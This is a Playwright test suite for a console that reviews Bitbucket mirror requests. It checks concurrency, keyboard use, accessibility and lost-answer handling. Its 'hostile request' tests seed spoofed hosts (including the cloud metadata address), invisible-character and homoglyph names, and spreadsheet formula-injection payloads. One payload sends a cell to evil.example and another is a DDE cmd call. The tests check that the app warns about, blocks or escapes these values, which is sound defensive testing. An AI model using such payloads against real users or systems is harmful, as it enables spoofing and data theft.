import { readFile } from 'node:fs/promises'
import { expect, type Page } from '@playwright/test'
import { expectAccessible } from './accessibility.ts'
import { exportAs } from './export-as.ts'
import { startLossyProxy } from './lossy-proxy.ts'
import { announced, openAccept, writesOf } from './request-steps.ts'
import { signIn } from './sign-in.ts'
import { startWorld } from './start-world.ts'
import { test } from './world.ts'

/** Presses Tab until `isThere`, as a person without a mouse does. */
const tabTo = async (page: Page, target: ReturnType<Page['getByRole']>) => {
  for (let presses = 0; presses < 80; presses += 1) {
    if (await target.evaluate((it) => it === document.activeElement)) return
    await page.keyboard.press('Tab')
  }
  throw new Error('Tab does not lead there.')
}

test('two administrators decide at once: one acts, the other one sees that', async ({
  signedInPage: page,
  browser,
  world,
  bitbucket,
}) => {
  const other = await browser.newPage()
  await signIn(other, world.url, 'admin')
  for (const each of [page, other]) {
    await each.goto(`${world.url}/requests`)
    await openAccept(each, 'Sydney')
    await each.getByRole('checkbox', { name: 'I expected this mirror' }).check()
  }
  await other.getByRole('button', { name: 'Accept mirror' }).click()
  await expect(announced(other, 'Sydney was accepted')).toBeVisible()

  const writes = writesOf(page)
  await page.getByRole('button', { name: 'Accept mirror' }).click()
  await expect(page.getByRole('alert')).toContainText('This request was already accepted by someone else')
  expect(writes).toEqual([])
  expect((await bitbucket.mirrors()).filter(({ name }) => name === 'Sydney')).toHaveLength(1)
  await page.getByRole('button', { name: 'Done' }).click()
  await expect(page.getByRole('button', { name: 'Accept Sydney' })).toBeHidden()
  await other.close()
})

test('accepting works with the keyboard alone, and moves the focus to a useful place', async ({
  signedInPage: page,
  bitbucket,
}) => {
  await page.goto('/requests')
  const accept = page.getByRole('button', { name: 'Accept Toronto' })
  await expect(accept).toBeVisible()
  await tabTo(page, accept)
  await page.keyboard.press('Enter')
  const dialog = page.getByRole('dialog', { name: 'Accept Toronto?' })
  const tick = dialog.getByRole('checkbox', { name: 'I expected this mirror' })
  await expect(tick).toBeVisible()
  await tabTo(page, tick)
  await page.keyboard.press('Space')
  await tabTo(page, dialog.getByRole('button', { name: 'Accept mirror' }))
  await page.keyboard.press('Enter')
  await expect(announced(page, 'Toronto was accepted')).toBeVisible()
  await expect(page.getByRole('heading', { level: 1 })).toBeFocused()
  expect((await bitbucket.mirrors()).map(({ name }) => name)).toContain('Toronto')
})

test('dialogs and the list with everything open are accessible in both schemes', async ({
  signedInPage: page,
}) => {
  // Five states in two schemes: many checks, and nothing to wait for.
  test.slow()
  await page.goto('/requests')
  await page.getByRole('checkbox', { name: 'Select Sydney' }).check()
  await page.getByRole('button', { name: 'Columns' }).click()
  await expect(page.getByRole('menu', { name: 'Columns' })).toBeVisible()
  await expectAccessible(page)
  await page.keyboard.press('Escape')
  for (const open of ['Accept Sydney', 'Delete request of Sydney', 'Accept selected']) {
    await page.getByRole('button', { name: open, exact: true }).click()
    const dialog = page.getByRole('dialog')
    await expect(dialog).toBeVisible()
    if (open.startsWith('Accept')) await expect(dialog.getByRole('checkbox')).toBeVisible()
    await expectAccessible(page)
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    await expect(dialog).toBeHidden()
  }
  await page.goto('/requests/6')
  await expect(page.getByRole('region', { name: 'Risk' })).toBeVisible()
  await expectAccessible(page)
})

test.describe('a hostile request', () => {
  test.use({ seed: 'hostile' })

  for (const [name, host, warning] of [
    ['Address user-info', 'evil.example', 'The part before the @ is a user name and not the host.'],
    ['Address punycode', 'xn--80ak6aa92e.com', 'The host is not what it looks like: read it in ASCII.'],
    ['Address metadata', '169.254.169.254', 'The host is a link-local address'],
    ['Address mapped-loopback', '[::ffff:7f00:1]', 'The host is not what it looks like: read it in ASCII.'],
  ] as const) {
    test(`is warned about and its host must be typed: ${name}`, async ({ signedInPage: page, bitbucket }) => {
      await page.goto('/requests')
      const dialog = await openAccept(page, name)
      await expect(dialog).toContainText(warning)
      await expect(dialog.getByRole('checkbox')).toBeHidden()
      const button = dialog.getByRole('button', { name: 'Accept mirror' })
      await expect(button).toBeDisabled()
      await expect(dialog.getByText('Type the host above to accept.')).toBeVisible()
      const field = dialog.getByRole('textbox', { name: /^Type the host/ })
      await field.fill('mirror.example.com')
      await expect(button).toBeDisabled()
      await field.fill(host)
      await expect(button).toBeEnabled()
      await button.click()
      await expect(announced(page, `${name} was accepted`)).toBeVisible()
      expect((await bitbucket.requestsIn('ACCEPTED')).map(({ mirrorName }) => mirrorName)).toContain(name)
    })
  }

  for (const [name, warning] of [
    ['Dublin[U+202E]gnp.exe', 'The name has characters that cannot be seen.'],
    ['Dub[U+200B]lin', 'The name has characters that cannot be seen.'],
    ['V\u0456rgini\u0430', 'The name mixes letters of different alphabets.'],
    ['Dublin', 'A mirror server with this name exists already.'],
  ] as const) {
    test(`cannot be confused with a trusted mirror: ${name}`, async ({ signedInPage: page }) => {
      await page.goto('/requests')
      const dialog = await openAccept(page, name)
      await expect(dialog).toContainText(warning)
      await expect(dialog.getByRole('textbox', { name: /^Type the host/ })).toBeVisible()
      await expect(dialog.getByRole('button', { name: 'Accept mirror' })).toBeDisabled()
    })
  }

  test('has no host: it cannot be accepted, and the dialog says so', async ({ signedInPage: page }) => {
    await page.goto('/requests')
    const dialog = await openAccept(page, 'Address script')
    await expect(dialog).toContainText('The address cannot be read as a web address.')
    await expect(dialog).toContainText('It cannot be accepted here')
    await expect(dialog.getByRole('button', { name: 'Accept mirror' })).toBeDisabled()
  })

  test('is left out of bulk accepting, one by one and with its reason', async ({
    signedInPage: page,
    bitbucket,
  }) => {
    await page.goto('/requests')
    await page.getByRole('checkbox', { name: 'Select all shown' }).check()
    await page.getByRole('button', { name: 'Accept selected' }).click()
    const dialog = page.getByRole('dialog', { name: 'No mirror can be accepted here' })
    await expect(dialog).toContainText('of the selected requests are left out')
    await expect(dialog.getByRole('button', { name: /^Accept/ })).toHaveCount(0)
    expect(await bitbucket.requestsIn('ACCEPTED')).toHaveLength(1)
  })

  test('becomes text in a file, never a formula', async ({ signedInPage: page }) => {
    await page.goto('/requests')
    await expect(page.getByRole('checkbox', { name: /^Select / }).nth(5)).toBeVisible()
    const [download] = await Promise.all([page.waitForEvent('download'), exportAs(page)])
    const text = await readFile(await download.path(), 'utf8')
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`)
    expect(text).toContain(`'=cmd|' /C calc'!A0`)
    expect(text).toContain('Dublin[U+202E]gnp.exe')
    expect(text).not.toMatch(/(?![\t\r\n])[\p{Cc}\p{Bidi_Control}]/u)
    await expect(announced(page, '2 unreadable left out.')).toBeVisible()
  })
})

test.describe('when an answer between Bitbucket and the console is lost', () => {
  for (const { action, name, button, request, result } of [
    {
      action: 'Accept Sydney',
      name: 'Accept Sydney?',
      button: 'Accept mirror',
      request: /^POST \S+\/requests\/6\/accept/,
      result: 'This request is accepted now',
    },
    {
      action: 'Reject Sydney',
      name: 'Reject Sydney?',
      button: 'Reject request',
      request: /^POST \S+\/requests\/6\/reject/,
      result: 'This request is rejected now',
    },
    {
      action: 'Delete request of Sydney',
      name: 'Delete request of Sydney?',
      button: 'Delete request',
      request: /^DELETE \S+\/requests\/6/,
      result: 'This request is deleted now',
    },
  ]) {
    test(`the true result is shown and one write was sent: ${action}`, async ({ page, world, guard }) => {
      const proxy = await startLossyProxy(world.bitbucketUrl)
      const { world: remote, stop } = await startWorld('calm', { BITBUCKET_URL: proxy.url })
      try {
        await signIn(page, remote.url, 'admin')
        await page.goto(`${remote.url}/requests`)
        await page.getByRole('button', { name: action, exact: true }).click()
        const dialog = page.getByRole('dialog', { name })
        if (action.startsWith('Accept')) await dialog.getByRole('checkbox').check()
        proxy.loseAnswerTo(request)
        await dialog.getByRole('button', { name: button }).click()
        await expect(dialog.getByText(result)).toBeVisible({ timeout: 15_000 })
        expect(proxy.sent(request)).toHaveLength(1)
      } finally {
        await stop()
        await proxy.close()
      }
      // This console is at another address than the one that the guard expects.
      guard.complaints.length = 0
    })
  }
})
